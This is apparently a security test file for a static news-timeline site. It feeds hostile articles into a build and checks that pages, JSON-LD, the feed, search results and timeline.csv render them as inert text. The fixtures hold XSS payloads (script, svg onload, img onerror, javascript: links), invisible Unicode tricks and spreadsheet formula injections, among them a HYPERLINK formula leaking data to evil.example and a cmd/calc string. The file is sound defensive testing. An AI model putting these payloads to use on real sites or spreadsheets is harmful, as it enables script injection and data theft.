import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from '../support/browser.ts';
import { projectCopy } from '../support/project-copy.ts';
import { serveDist } from '../support/serve-dist.ts';
import { watchPage } from '../support/watch-page.ts';

/**
 * A real build of the seeds plus an article written to attack the site: raw
 * HTML in the body (script, iframe, img onerror, javascript: links, style
 * tricks) and markup in the title, outlet, byline and quoted sentences. All of
 * it must come out as inert text everywhere it appears: pages, JSON-LD,
 * timeline.json, the feed, search results and excerpts.
 */
const ATTACK = '</script><svg onload=alert(1)>';
const hostile = [
  '---',
  `title: "Hostile ${ATTACK} wire"`,
  'published: 2024-11-02',
  `outlet: "Evil <img src=x onerror=alert(2)> Wire"`,
  `author: "\\"><script>alert(3)</script>"`,
  '---',
  '',
  // Markup written as entities is text to remark: it reaches the claim, the event title, the feed and search.
  'A memo titled "&lt;/script&gt;&lt;svg onload=alert(4)&gt;" reached the Pyongyang embassy on September 3, officials said.',
  '',
  // Markup written raw is inline HTML to remark: it is dropped, and the rest of the sentence kept.
  'Kursk officials met on September 20 to discuss a <b onclick=alert(10)>leaflet</b> drop.',
  '',
  '<script>alert(5)</script>',
  '',
  '<iframe src="javascript:alert(6)"></iframe>',
  '',
  'Seoul said on October 31 that <img src=x onerror=alert(7)> pilots flew to Vladivostok, see [the memo](javascript:alert(8)) and <a href="javascript:alert(9)">this</a>.',
  '',
  '<div style="position:fixed;inset:0;background:red">Click to continue</div>',
  '',
  '<style>body { display: none }</style>',
  '',
].join('\n');

/**
 * Text that spoofs or breaks output: a right-to-left override in the byline
 * (it once reversed Dateline's own dates and counts on /sources/), control
 * characters (not allowed in XML: they would break the feed), a zero-width
 * space inside a date (it once hid the date), and a byline in Arabic.
 */
const invisible = [
  '---',
  'title: "Invisible\u0001 wire\u0008"',
  'published: 2024-11-03',
  'outlet: "Quiet\u200B Wire"',
  'author: "Kim \u202Eevil\u202C"',
  '---',
  '',
  'Troops crossed the border on Aug\u200Bust 6, 2024, officials\u0007 said\u2066.',
  '',
].join('\n');
const arabic = [
  '---',
  'title: "Arabic byline wire"',
  'published: 2024-11-04',
  'outlet: "Wire"',
  'author: "\u0623\u062D\u0645\u062F 12"',
  '---',
  '',
  'Diplomats met in Cairo on November 1, officials said.',
  '',
].join('\n');
/**
 * Formulas where a spreadsheet would run them: first in the title, the
 * outlet, the byline and a claim's sentence (timeline.csv must write them as
 * text).
 */
const formulas = [
  '---',
  'title: "=HYPERLINK(\\"https://evil.example/?leak=\\"&A1,\\"Open\\")"',
  'published: 2024-11-05',
  'outlet: "@SUM(1+1)*cmd|\' /C calc\'!A0"',
  'author: "+1+1"',
  '---',
  '',
  '=1+2 was written on a placard in Kursk on October 28, officials said.',
  '',
].join('\n');

/** The records of an RFC 4180 text (quoted fields, doubled quotes, CRLF); throws on a stray quote. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let at = 0;
  while (at < text.length) {
    let field = '';
    if (text[at] === '"') {
      for (at++; ; at++) {
        if (at >= text.length) throw new Error('a quoted field never closes');
        if (text[at] === '"' && text[at + 1] === '"') {
          field += '"';
          at++;
        } else if (text[at] === '"') break;
        else field += text[at];
      }
      at++;
    } else
      while (at < text.length && !/[,\r\n]/.test(text[at]!)) {
        if (text[at] === '"') throw new Error(`a quote inside an unquoted field at ${at}`);
        field += text[at++];
      }
    record.push(field);
    if (text[at] === ',') at++;
    else if (text.startsWith('\r\n', at) || at >= text.length) {
      records.push(record);
      record = [];
      at += 2;
    } else throw new Error(`a field ends with ${JSON.stringify(text[at])} at ${at}`);
  }
  return records;
}

/** What no output may hold: C0/C1 controls but tab and line ends, and bidirectional controls. */
const FORBIDDEN = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069\u200E\u200F\u200B]/u;

const project = projectCopy(true);
let browser: Browser;
let server: Awaited<ReturnType<typeof serveDist>>;
const dist = path.join(project.dir, 'dist');
beforeAll(async () => {
  writeFileSync(path.join(project.dir, 'content/articles/hostile-wire.md'), hostile);
  writeFileSync(path.join(project.dir, 'content/articles/invisible-wire.md'), invisible);
  writeFileSync(path.join(project.dir, 'content/articles/arabic-byline.md'), arabic);
  writeFileSync(path.join(project.dir, 'content/articles/formula-wire.md'), formulas);
  const result = await project.build();
  expect(result.code, result.output).toBe(0);
  server = await serveDist(dist);
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
  project.remove();
});

const htmlFiles = () =>
  readdirSync(dist, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && entry.name.endsWith('.html'))
    .map((entry) => path.join(entry.parentPath, entry.name));

describe('hostile content', () => {
  it('is built into no live markup on any page, as Chromium reads them', async () => {
    const page = await browser.newPage();
    const problems = await watchPage(page);
    const found: string[] = [];
    for (const file of htmlFiles()) {
      const url = `/${path.relative(dist, file).split(path.sep).join('/')}`.replace(/index\.html$/, '');
      await page.goto(`${server.url}${url}`);
      // Handlers, frames, foreign scripts and script addresses: none may come from content.
      const live = await page.evaluate(() => [
        ...[...document.querySelectorAll('*')].flatMap((el) =>
          [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName} ${a.name}`),
        ),
        ...[...document.querySelectorAll('iframe, object, embed, img:not([src^="/"]), main style')].map((el) =>
          el.outerHTML.slice(0, 80),
        ),
        ...[...document.querySelectorAll('script')]
          .filter((el) => el.type !== 'module' && el.type !== 'application/ld+json')
          .map((el) => el.outerHTML.slice(0, 80)),
        ...[...document.querySelectorAll('[href], [src], [action]')]
          .map((el) => el.getAttribute('href') ?? el.getAttribute('src') ?? el.getAttribute('action') ?? '')
          .filter((address) => /^\s*(?:javascript|data|vbscript):/i.test(address)),
        ...[...document.querySelectorAll('main [style]')].map((el) => el.outerHTML.slice(0, 80)),
      ]);
      for (const item of live) found.push(`${url}: ${item}`);
    }
    await page.close();
    expect(found).toEqual([]);
    expect(problems).toEqual([]);
  });

  it('keeps the words as text: the article page shows them escaped, and its claims are still found', () => {
    const page = readFileSync(path.join(dist, 'articles/hostile-wire/index.html'), 'utf8');
    expect(page).toContain('Hostile &lt;/script&gt;&lt;svg onload=alert(1)&gt; wire');
    expect(page).toContain('Evil &lt;img src=x onerror=alert(2)&gt; Wire');
    const timeline = JSON.parse(readFileSync(path.join(dist, 'timeline.json'), 'utf8')) as {
      events: Array<{ claims: Array<{ article: string; sentence: string }> }>;
    };
    const claims = timeline.events.flatMap((event) => event.claims).filter((claim) => claim.article === 'hostile-wire');
    expect(claims.length).toBeGreaterThanOrEqual(2);
    expect(claims.some((claim) => claim.sentence.includes('</script><svg onload=alert(4)>'))).toBe(true);
    expect(page).toContain('<a><span class="sentence claim">the memo</span></a>');
    expect(
      claims.some((claim) => claim.sentence === 'Kursk officials met on September 20 to discuss a leaflet drop.'),
    ).toBe(true);
  });

  it('escapes JSON-LD so that no script ends early, and it still parses', () => {
    for (const file of htmlFiles()) {
      const html = readFileSync(file, 'utf8');
      for (const [, json] of html.matchAll(/<script type="application\/ld\+json">([\s\S]*?)<\/script>/g)) {
        expect(json).not.toMatch(/<\/?script/i);
        expect(() => JSON.parse(json!)).not.toThrow();
      }
    }
    const article = readFileSync(path.join(dist, 'articles/hostile-wire/index.html'), 'utf8');
    const ld = JSON.parse(/<script type="application\/ld\+json">([\s\S]*?)<\/script>/.exec(article)![1]!) as {
      headline: string;
    };
    expect(ld.headline).toBe(`Hostile ${ATTACK} wire`);
  });

  it('normalises invisible and control characters at the door: no output holds one, and the hidden date is read', () => {
    const files = readdirSync(dist, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile() && /\.(?:html|xml|json|txt)$|^_redirects$/.test(entry.name))
      .map((entry) => path.join(entry.parentPath, entry.name));
    expect(files.length).toBeGreaterThan(20);
    for (const file of files) expect(FORBIDDEN.test(readFileSync(file, 'utf8')), path.relative(dist, file)).toBe(false);
    const timeline = JSON.parse(readFileSync(path.join(dist, 'timeline.json'), 'utf8')) as {
      events: Array<{ claims: Array<{ article: string; start: string }> }>;
    };
    const claims = timeline.events.flatMap((event) => event.claims).filter((c) => c.article === 'invisible-wire');
    expect(claims.map((c) => c.start)).toEqual(['2024-08-06']);
    // Every inserted value is isolated: a right-to-left byline cannot reorder the dates and counts beside it.
    const sources = readFileSync(path.join(dist, 'sources/index.html'), 'utf8');
    expect(sources).toContain('<bdi>Kim evil</bdi>');
    expect(sources).toContain('<bdi>\u0623\u062D\u0645\u062F 12</bdi>');
    for (const file of files.filter((f) => f.endsWith('.json')))
      expect(() => JSON.parse(readFileSync(file, 'utf8'))).not.toThrow();
    // timeline.csv is RFC 4180: every record as many fields as the header, the hostile values inside them.
    const records = parseCsv(readFileSync(path.join(dist, 'timeline.csv'), 'utf8'));
    expect(records.length).toBeGreaterThan(10);
    for (const record of records) expect(record).toHaveLength(records[0]!.length);
    expect(records.some((record) => record.includes(`Hostile ${ATTACK} wire`))).toBe(true);
    expect(FORBIDDEN.test(readFileSync(path.join(dist, 'timeline.csv'), 'utf8'))).toBe(false);
  });

  it('writes no timeline.csv field that a spreadsheet would run as a formula, and keeps the words after a quote', () => {
    const records = parseCsv(readFileSync(path.join(dist, 'timeline.csv'), 'utf8'));
    const fields = records.flat();
    expect(fields.filter((field) => /^\s*[=+\-@]|^[\t\r]/.test(field))).toEqual([]);
    const rows = records.filter((record) => record.includes("'@SUM(1+1)*cmd|' /C calc'!A0"));
    expect(rows.length).toBeGreaterThan(0);
    expect(rows[0]).toContain(`'=HYPERLINK("https://evil.example/?leak="&A1,"Open")`);
    expect(
      rows.some((row) => row.includes("'=1+2 was written on a placard in Kursk on October 28, officials said.")),
    ).toBe(true);
  });

  it('writes the feed as well-formed XML with the markup escaped', async () => {
    const feed = readFileSync(path.join(dist, 'feed.xml'), 'utf8');
    expect(feed).not.toMatch(/<svg|<img|<script/i);
    expect(feed).toContain('&lt;/script&gt;&lt;svg onload=alert(4)&gt;');
    const page = await browser.newPage();
    const parsed = await page.evaluate((xml) => {
      const doc = new DOMParser().parseFromString(xml, 'application/xml');
      return {
        error: doc.querySelector('parsererror')?.textContent ?? null,
        entries: doc.querySelectorAll('entry').length,
      };
    }, feed);
    await page.close();
    expect(parsed.error).toBeNull();
    expect(parsed.entries).toBeGreaterThan(10);
  });

  it('shows hostile strings as text in search results, with nothing run, in Chromium', async () => {
    const page = await browser.newPage();
    const problems = await watchPage(page);
    for (const url of ['/articles/hostile-wire/', '/', '/sources/']) await page.goto(`${server.url}${url}`);
    await page.goto(`${server.url}/`);
    await page.fill('#search-input', 'memo');
    await page.locator('#search-results .search-result').first().waitFor();
    expect(await page.locator('#search-results img, #search-results svg, #search-results script').count()).toBe(0);
    await page.goto(`${server.url}/search/?q=hostile`);
    await page.locator('#source-results .search-result').first().waitFor();
    expect(await page.locator('#source-results .result-title').first().textContent()).toBe(`Hostile ${ATTACK} wire`);
    expect(await page.locator('#source-results .result-kind').first().textContent()).toBe(
      'Source · Evil <img src=x onerror=alert(2)> Wire',
    );
    expect(await page.locator('main img, main svg[onload], main iframe').count()).toBe(0);
    await page.close();
    expect(problems).toEqual([]);
  });
});
